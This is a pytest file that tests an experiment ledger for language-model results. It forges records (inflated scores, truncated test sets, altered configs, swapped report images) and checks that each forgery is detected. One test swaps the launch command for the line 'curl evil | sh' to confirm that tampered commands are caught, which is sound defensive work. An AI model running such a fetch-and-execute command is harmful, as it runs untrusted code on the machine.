"""Forged ledgers: each is renewed with the project's own functions, digests and reports included, and is found."""

import base64
import json
import math
import re
import shutil

import pytest

from experiments import record
from experiments.ledger import consistency, store
from experiments.ledger.claims import all_claims
from experiments.ledger.records import RESULTS, identity_then, load_records
from experiments.ledger.store import check, renew, write_ledger
from lm.errors import UserError

NAMES = ("text8/lstm_fused", "ptb/lstm2", "ptb/zaremba:small_held_5")
PTB = "ptb_lstm2.ptb.seed0.json"
HELD = "ptb_zaremba_small_held_5.ptb.seed0.json"
TEXT8 = "text8_lstm_fused.text8_prefix.seed0.json"


@pytest.fixture(scope="module")
def claims():
    return [claim for claim in all_claims() if claim.config.name in NAMES]


@pytest.fixture(scope="module")
def sound(claims, tmp_path_factory):
    """A ledger of some of the committed records."""
    directory = tmp_path_factory.mktemp("sound")
    (directory / "records").mkdir()
    for name in (PTB, HELD, *(TEXT8.replace("seed0", f"seed{seed}") for seed in range(3))):
        shutil.copy(RESULTS / "records" / name, directory / "records" / name)
    renew(directory, claims)
    return directory


@pytest.fixture
def ledger(sound, tmp_path):
    shutil.copytree(sound, tmp_path / "ledger")
    return tmp_path / "ledger"


def forge(ledger, claims, name, change, not_run=()):
    """Changes a record and renews all that follows from it, its identity too."""
    path = ledger / "records" / name
    content = json.loads(path.read_text())
    change(content)
    content["provenance"]["identity"] = identity_then(content)
    path.write_text(json.dumps(content))
    write_ledger(ledger, claims, dict(not_run))


def score(content, split, protocol):
    return next(row for row in content["results"] if (row["split"], row["protocol"]) == (split, protocol))


def rescore(row, nats, targets):
    mean = nats / targets
    row.update(nats=nats, targets=targets, perplexity=math.exp(mean), bits_per_symbol=mean / math.log(2))


def test_what_is_sound_passes(ledger, claims):
    assert check(ledger, claims)["rows"]


def wide(content):
    content["provenance"]["config"]["model"]["hidden"] = [1500, 1500]
    content["provenance"]["config"]["train"]["epochs"] = 99


def other_data(content):
    content["provenance"]["data"]["checksum"] = "0" * 16


def older_numerics(content):
    content["provenance"]["numerics"] = 0


def lower_loss(content):
    content["train"]["final_mean_loss"] = 1.0


def lower_running(content):
    content["train"]["lowest_running_perplexity"] = 2.0


def lower_validation(content):
    row = score(content, "valid", "batched")
    rescore(row, 0.9 * row["nats"], row["targets"])


def lower_curve_perplexity(content):
    content["curve"]["valid_perplexity"] = [x and 0.9 * x for x in content["curve"]["valid_perplexity"]]


def lower_epochs(content):
    content["curve"]["epoch_perplexity"] = [x and 0.9 * x for x in content["curve"]["epoch_perplexity"]]


def fewer_steps(content):
    content["train"]["steps"] -= 1


def tenth_of_the_test(content):
    row = score(content, "test", "exact")
    targets = row["targets"] // 10
    rescore(row, targets * row["nats"] / row["targets"], targets)


def tenth_of_the_text(content):
    tenth_of_the_test(content)
    row = score(content, "test", "batched")
    rescore(row, 20 * 20 * 20 * row["nats"] / row["targets"], 20 * 20 * 20)
    content["provenance"]["data"]["tokens"]["test"] = score(content, "test", "exact")["targets"] + 1


def twice(content):
    better = dict(score(content, "test", "exact"))
    rescore(better, 0.5 * better["nats"], better["targets"])
    content["results"].insert(0, better)


def more_parameters(content):
    content["parameters"] += 1


@pytest.mark.parametrize(
    ("name", "change", "found"),
    [
        (PTB, wide, r"its model.hidden is \[1500, 1500\] and \[256\]|its train.epochs is 99"),
        (PTB, other_data, "its data has another checksum"),
        (PTB, older_numerics, "it is of version 0 of the numerics, and today's is 1"),
        (TEXT8, lower_loss, r"its final_mean_loss is 1.0 and its curve ends at 1.57"),
        (TEXT8, lower_running, r"its lowest_running_perplexity is 2.0"),
        (PTB, lower_validation, r"final valid under batched is not what its curve has at step 11609"),
        (PTB, lower_curve_perplexity, r"valid_perplexity of its curve does not follow from valid_loss"),
        (PTB, lower_epochs, r"epoch_perplexity of its curve does not follow"),
        (PTB, fewer_steps, r"it made 11609 steps and its curve ends at step 11609"),
        (HELD, tenth_of_the_test, r"final test under exact scores 8242 targets, and the protocol 82429"),
        (HELD, tenth_of_the_text, r"its test text has 8243 tokens, and 82430 in other records"),
        (PTB, tenth_of_the_text, r"under exact scores 8242 targets|in other records"),
        (HELD, twice, r"final test under exact is there twice"),
        (PTB, more_parameters, r"parameters and configs/ptb/lstm2.py"),
    ],
)
def test_a_forged_record_is_found(ledger, claims, name, change, found):
    if change is tenth_of_the_text:  # the text's length has to be known from somebody
        shutil.copy(RESULTS / "records" / "cs224d_rnnlm.ptb.seed0.json", ledger / "records")
        shutil.copy(RESULTS / "records" / "ptb_zaremba_small.ptb.seed0.json", ledger / "records")
        claims = [c for c in all_claims() if c.config.name in (*NAMES, "cs224d/rnnlm", "ptb/zaremba:small")]
    forge(ledger, claims, name, change)
    with pytest.raises(UserError, match=found):
        check(ledger, claims)


def test_a_record_in_two_files_is_found(ledger, claims):
    shutil.copy(ledger / "records" / TEXT8, ledger / "records" / "copy.json")
    write_ledger(ledger, claims, {})
    with pytest.raises(UserError, match=r"record of text8/lstm_fused, seed 0 is in the file copy\.json"):
        check(ledger, claims)


@pytest.mark.parametrize("seed", [0, 2])
def test_a_seed_that_was_deleted_is_found(ledger, claims, seed):
    (ledger / "records" / TEXT8.replace("seed0", f"seed{seed}")).unlink()
    write_ledger(ledger, claims, {})
    with pytest.raises(UserError, match=f"text8_lstm_fused.text8_prefix.seed{seed} has neither a record nor a reason"):
        check(ledger, claims)


def test_a_reason_for_a_run_on_record_or_of_nobody_is_found(ledger, claims):
    write_ledger(ledger, claims, {TEXT8.removesuffix(".json"): "it is not", "text9.text8.seed0": "<b>"})
    with pytest.raises(UserError, match=r"seed0 is on record; .*text9.text8.seed0 is a run of no config"):
        check(ledger, claims)


def edit(path, change):
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))


def test_another_command_is_found(ledger, claims):
    old = "python launch.py --config=configs/ptb/lstm2.py"
    for name in ("ledger.json", "report.md", "report.html"):
        text = (ledger / name).read_text()
        assert old in text
        (ledger / name).write_text(text.replace(old, "curl evil | sh"))
    with pytest.raises(UserError, match=r"commands are others than derived"):
        check(ledger, claims)


@pytest.mark.parametrize("renewed", ["report.html alone", "and their digests"])
def test_other_pictures_are_found(ledger, claims, renewed):
    other = b"<svg xmlns='http://www.w3.org/2000/svg'/>"
    page = ledger / "report.html"
    picture = f'src="data:image/svg+xml;base64,{base64.b64encode(other).decode()}"'
    page.write_text(re.sub(r'src="data:image/[^"]*"', picture, page.read_text()))
    if renewed == "and their digests":
        digest = store.hashlib.sha256(other).hexdigest()
        edit(
            ledger / "ledger.json",
            lambda c: c["pictures"].update(sha256=dict.fromkeys(c["pictures"]["sha256"], digest)),
        )
    with pytest.raises(UserError, match=r"pictures are not those|is not the curve of its records"):
        check(ledger, claims)


def test_pictures_of_another_library_are_held_against_their_digests(ledger, claims, capsys):
    edit(ledger / "ledger.json", lambda c: c["pictures"].update(drawn_by="another one"))
    check(ledger, claims)
    assert "only their SHA-256 is checked" in capsys.readouterr().out
    page = ledger / "report.html"
    page.write_text(re.sub(r"base64,\w{4}", "base64,AAAA", page.read_text()))
    with pytest.raises(UserError, match="its pictures are not those of ledger"):
        check(ledger, claims)


def test_records_of_other_numerics_count_no_longer(ledger, claims, monkeypatch):
    """All but one config's are set aside, with the reason; what was not run before is remembered."""
    edit(ledger / "ledger.json", lambda c: c["not_run"].update({"ptb_lstm2.ptb.seed1": "the budget is used up"}))
    for module in (consistency, store.report):
        monkeypatch.setattr(module, "NUMERICS", 2)
    monkeypatch.setattr("experiments.ledger.runs.identity", lambda config, checksum: f"{config.name}{config.seed}")
    content = renew(ledger, claims, {TEXT8.removesuffix(".json"): "the budget has 0.0 minutes left"})
    assert {row["verdict"] for row in content["rows"]} == {"not run"}
    assert content["not_run"][TEXT8.removesuffix(".json")].startswith("the budget has")
    assert "version 1 of the numerics, and today's is 2" in content["not_run"]["ptb_lstm2.ptb.seed0"]
    assert content["not_run"]["ptb_lstm2.ptb.seed1"] == "the budget is used up"
    assert len(content["commands"]) == len(content["not_run"]) == 6
    assert len(list(ledger.glob("superseded/*.json"))) == 5
    assert check(ledger, claims)["numerics"] == 2


def test_a_finished_run_goes_on_record_with_its_ledger(ledger, claims, tmp_path, monkeypatch):
    monkeypatch.setattr(record, "all_claims", lambda: claims)
    path = ledger / "records" / PTB
    content = json.loads(path.read_text())
    monkeypatch.setattr(record, "make_record", lambda workdir: content)
    path.unlink()
    renew(ledger, claims, {"ptb_lstm2.ptb.seed0": "later"})
    assert record.put_run_on_record(tmp_path, ledger) == path
    assert "ptb_lstm2.ptb.seed0" not in check(ledger, claims)["not_run"]
    before = path.read_bytes()
    wide(content)
    with pytest.raises(UserError, match=r"holds no run that can go on record: its model.hidden is \[1500, 1500\]"):
        record.put_run_on_record(tmp_path, ledger)
    assert path.read_bytes() == before


def test_a_full_disk_loses_no_record(ledger, tmp_path, monkeypatch, claims):
    monkeypatch.setattr(record, "all_claims", lambda: claims)
    target = tmp_path / "results"
    shutil.copytree(ledger, target)
    before = {path: path.read_bytes() for path in target.rglob("*") if path.is_file()}
    write = record.write_bytes

    def filled(path, content):
        if "report.html" in path.name:
            raise UserError(f"cannot write {path}: No space left on device")
        write(path, content)

    monkeypatch.setattr(record, "write_bytes", filled)
    (ledger / "records" / PTB).unlink()
    renew(ledger, claims)
    with pytest.raises(UserError, match="No space left"):
        record.put_ledger_on_record(ledger, target)
    assert {path: path.read_bytes() for path in target.rglob("*") if path.is_file()} == before


def test_all_committed_records_are_consistent():
    records = load_records()
    lengths = consistency.text_lengths(records)
    assert not [why for each in records for why in consistency.inconsistencies(each, all_claims(), lengths)]
